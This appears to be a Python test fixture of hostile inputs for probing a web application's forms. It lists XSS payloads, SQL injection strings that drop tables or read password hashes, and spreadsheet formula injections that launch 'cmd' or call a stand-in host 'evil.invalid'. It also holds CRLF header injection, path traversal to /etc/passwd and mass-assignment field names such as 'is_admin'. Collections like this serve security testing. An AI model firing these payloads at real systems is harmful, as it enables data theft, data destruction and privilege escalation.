"""What somebody types who wants a browser, a database, a spreadsheet or a terminal of others to run it."""

XSS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'><body onload=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", '" onfocus=alert(1) autofocus x="', "' onmouseover='alert(1)", "<iframe srcdoc='<script>1</script>'>",
    "<math><mtext><style><img src=x onerror=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)", "＜script＞alert(1)＜/script＞",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "]]><script>alert(1)</script>", "<style>@import 'https://evil.invalid'</style>", "<base href=https://evil.invalid>", "<meta http-equiv=refresh content=0;https://evil.invalid>",
    "<form action=https://evil.invalid><input name=csrf_token>", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}{% raw %}", "${alert(1)}", "[x](javascript:alert(1))", "javascript:alert(1)//\n", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
SQL = (
    "'", "''", "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE account;--", "'; DELETE FROM audit;--", "' UNION SELECT login, password_hash FROM account--", '") OR ("1"="1',
    "1; UPDATE account SET role='operator'", "\\'; SELECT pg_sleep(9);--", "'||(SELECT password_hash FROM account LIMIT 1)||'", "%' AND 1=(SELECT 1)--", "_%", "$$;DROP TABLE permit;$$", "x'::text", "/**/OR/**/1=1", "' OR SLEEP(9)#",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("https://evil.invalid","x")', '=WEBSERVICE("https://evil.invalid")', '=IMPORTXML("https://evil.invalid","//a")', "\t=1+1", "\r=1+1", "＝1+1", '=DDE("cmd";"/c calc";"x")',
)  # fmt: skip
ODD_LETTERS = (
    "\u202egpj.exe", "\u2066x\u2069", "\u200b\u200b", "\ufeff", "a\u0300" * 60, "\x1b[2J\x1b[31m", "\x7f\x08\x08", "\r\nSet-Cookie: a=b", "\r\n\r\n<script>alert(1)</script>", "\U000e0041", "𝒶𝓁ℯ𝓇𝓉", "ﷺ" * 9, "\u0085x", "\u2028x", "%0d%0aLocation:https://evil.invalid", "../../../../etc/passwd", "file:///etc/passwd", "~root",
)  # fmt: skip
TYPED = (*XSS, *SQL, *FORMULAS, *ODD_LETTERS)
NOT_ASKED = (
    "approved", "decision", "state", "outcome", "role", "is_admin", "is_active", "account_id", "employer_id", "person_id", "case_id", "permit_id", "valid_until", "id", "level",
    "education.0.__class__", "education.__proto__", "constructor", "len", "assignee", "issues.0.verdict", "fields[role]", "unit.role", "created_at", "password_hash",
)  # fmt: skip
"""Names of answers that no form asks for (what begins with an underscore is the page's own and never an answer), by which somebody hopes to write more than they were asked."""
